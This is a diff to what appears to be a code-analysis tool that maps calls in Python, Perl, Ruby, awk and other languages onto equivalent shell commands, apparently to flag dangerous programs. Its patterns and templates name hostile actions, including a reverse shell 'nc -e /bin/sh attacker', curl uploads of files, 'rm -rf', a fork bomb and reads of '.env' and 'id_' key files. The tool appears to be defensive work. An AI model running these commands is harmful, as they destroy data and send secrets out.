@@ -22,6 +22,9 @@ const shapes: readonly Shape[] = [
     call: /\b(?:os\.remove|os\.unlink|os\.rmdir|unlinkSync|unlink|File\.delete|FileUtils\.rm|File\.unlink)\s*\(?\s*(?:glob\s*\(?\s*|<)?/g,
     shell: "rm $1",
   },
+  { in: /python/, call: /\.(?:unlink|rmdir)\(/g, shell: "rm $1" },
+  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\+?>)/g, shell: "echo > $1" },
+  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\|)/g, shell: "$!" },
   {
     call: /\b(?:os\.system|os\.popen|subprocess\.\w+|commands\.getoutput|execSync|spawnSync|execFileSync|execFile|child_process\w*\W{0,4}\.?(?:exec|spawn)\w*|shell_exec|passthru|proc_open|pcntl_exec|popen|IO\.popen|Open3\.\w+|pty\.spawn|os\.exec\w+|os\.spawn\w+|os\.posix_spawn|Kernel\.(?:system|exec|spawn)|Bun\.spawn\w*|Deno\.(?:run|Command)|io\.popen|os\.execute|getRuntime\(\)\.exec|shell-command|system2?)\s*\(?\s*/g,
     shell: "$!",
@@ -30,7 +33,6 @@ const shapes: readonly Shape[] = [
   { in: /perl|ruby|php/, call: /(?<![\w.$>:-])(?:exec|system|spawn)\b\s*\(?\s*/g, shell: "$!" },
   { in: /perl|ruby|php/, call: /(?:\bqx|%x)\s*[{([/|](?=[^\])}/|]*)/g, shell: "$!" },
   { in: /perl|ruby|php/, call: /(?=`[^`]+`)/g, shell: "$!" },
-  { in: /perl/, call: /\bopen\s*\(?\s*\w*\s*\$?\w*,\s*(?=["']\|?)/g, shell: "true" },
   { in: /awk/, call: /\bsystem\s*\(\s*/g, shell: "$!" },
   { in: /awk/, call: /(?=("(?:[^"\\]|\\.)*")\s*\|\s*getline)/g, shell: "$!" },
   { in: /awk/, call: /\|\s*&?\s*(?="(?:[^"]*\/)?(?:ba|z|da|k)?sh\b)/g, shell: `eval "${hole}"` },
@@ -58,23 +60,34 @@ export function toldInShell(language: Language, text: string): string[] {
     .filter((shape) => shape.in === undefined || shape.in.test(language))
     .flatMap((shape) =>
       Array.from(code.matchAll(shape.call), (found) =>
-        told(shape, code.slice(found.index + found[0].length), found[0]),
+        told(shape, code.slice(found.index + found[0].length), found[0], code),
       ),
     );
   return [...new Set([...lines, ...wholes(language, code)])];
 }
 
-function told(shape: Shape, behind: string, call: string): string {
+function told(shape: Shape, behind: string, call: string, code: string): string {
   const list = /^[([]?\s*\[([^\]]*)\]/.exec(behind)?.[1];
   const pieces = Array.from((list ?? firstArgument(behind, call)).matchAll(new RegExp(quoted, "g")), (found) =>
     inside(found[1] ?? ""),
   );
   if (shape.shell === "$!") {
     if (list !== undefined) return pieces.map(shellQuoted).join(" ") || `eval "$(${hole})"`;
-    return pieces[0] ?? rawShell(behind, call) ?? `eval "${hole}"`;
+    return pieces[0]?.replace(/^\s*\||\|\s*$/g, "") ?? rawShell(behind, call) ?? `eval "${hole}"`;
   }
-  const argument = pieces[0] === undefined ? hole : pieces.join("");
-  return shape.shell.replace("$1", () => (argument.includes("*") ? argument : shellQuoted(argument)));
+  const argument = pieces[0] === undefined ? placesIn(code) : pieces.join("").replace(/^\s*\+?[<>|]{1,2}\s*/, "");
+  // What is not named may be anything below the folders that are.
+  const shell = pieces[0] === undefined ? shape.shell.replace(/^rm /, "rm -rf ") : shape.shell;
+  return shell.replace("$1", () => (argument.includes("*") ? argument : shellQuoted(argument)));
+}
+
+/** Folders that the code names, with the pattern it looks for in them. */
+function placesIn(code: string): string {
+  const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
+  const folder = literals.find((item) => /^([~/]|\.\.?\/?$)/.test(item));
+  const pattern = literals.find((item) => /^\*+(\/\*)*\.\w+$/.test(item));
+  if (folder === undefined) return hole;
+  return pattern === undefined ? folder : `${folder.replace(/\/$/, "")}/${pattern}`;
 }
 
 /** `qx{..}` and `%x(..)`. */
@@ -109,11 +122,11 @@ function shellQuoted(text: string): string {
 }
 
 const network =
-  /\b(requests\.|urllib|urlopen|http\.client|httpx|aiohttp|socket|smtplib|ftplib|paramiko|fetch\(|https?\.(get|request)|net\.(connect|createConnection|Socket)|axios|Net::HTTP|TCPSocket|open-uri|IO::Socket|LWP|fsockopen|curl_exec|XMLHttpRequest|HTTP::Tiny|\/inet\/(tcp|udp))/;
+  /\b(requests\.|urllib|urlopen|http\.client|httpx|aiohttp|socket|smtplib|ftplib|paramiko|fetch\(|https?\.(get|request)|net\.(connect|createConnection|Socket)|axios|Net::HTTP|TCPSocket|open-uri|IO::Socket|LWP|fsockopen|curl_exec|XMLHttpRequest|HTTP::Tiny)|\/inet\/(tcp|udp)|require\(["'](node:)?(net|tls|dgram|https?)["']\)|Socket\(/;
 const dynamic =
   /(?<![\w.])(exec|eval|execfile|__import__|compile|Function|instance_eval|assert)\s*\(|\beval\s+|marshal\.loads|getattr\s*\(\s*__|vm\.run|importlib\.import_module/;
 const decoder =
-  /b64decode|base64|fromhex|codecs\.decode|unhexlify|zlib|\bchr\(|fromCharCode|decode\(|unpack|pack\(|\[::-1\]|reverse|gzinflate|rot13|atob|Buffer\.from|urlopen|requests\.|https?\.get|fetch\(/;
+  /b64decode|base64|fromhex|codecs\.decode|unhexlify|zlib|\bchr\(|fromCharCode|decode\(|unpack|pack\(|\[::-1\]|getattr|['"]\s*\+\s*['"]|reverse|gzinflate|rot13|atob|Buffer\.from|urlopen|requests\.|https?\.get|fetch\(/;
 
 interface Sign {
   readonly fits: (code: string, online: boolean, language: Language) => boolean;
@@ -124,8 +137,7 @@ const unknownCode = `eval '${hole}'`;
 
 /** What shows in the whole of a program rather than in one call. */
 const signs: readonly Sign[] = [
-  { fits: (code, online) => online && !sendsOut(code), shell: `curl '${hole}'` },
-  { fits: (code, online) => online && sendsOut(code), shell: `curl '${hole}' -T -` },
+  { fits: (_code, online) => online, shell: `curl '${hole}'` },
   { fits: (code, online) => online && handsOutShell.test(code), shell: "nc -e /bin/sh attacker 1" },
   { fits: (code) => /\b(os\.)?fork\b/.test(code) && /while|for|fork[^;]*fork/.test(code), shell: "forkbomb" },
   {
@@ -149,15 +161,16 @@ const signs: readonly Sign[] = [
 ];
 
 const handsOutShell =
-  /dup2|\bfdopen|pty\.spawn|\/inet\/(tcp|udp)|STDIN,\s*">&|(net\.|Socket|fsockopen).*(spawn|exec|\/bin\/|sh)/s;
+  /dup2|\bfdopen|pty\.spawn|\/inet\/(tcp|udp)|STDIN,\s*">&|(?=.*(["']net["']|net\.|Socket|fsockopen))(?=.*(spawn|exec|\/bin\/))/s;
 
 function wholes(language: Language, code: string): string[] {
   const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
   const paths = literals.filter((item) => /^[~/.][^\s]*$|^\.env|^id_/.test(item) && item.length > 1);
   const reads = /open|read|load|File|Path|cat|slurp|<|send|post|copy/i.test(code);
   const online = network.test(code);
+  const sent = online && sendsOut(code) ? paths.map((path) => `curl '${hole}' -T ${shellQuoted(path)}`) : [];
   const told = signs.filter((sign) => sign.fits(code, online, language)).map((sign) => sign.shell);
-  return [...(reads ? paths.map((path) => `cat ${shellQuoted(path)}`) : []), ...told];
+  return [...(reads ? paths.map((path) => `cat ${shellQuoted(path)}`) : []), ...sent, ...told];
 }
 
 function sendsOut(code: string): boolean {
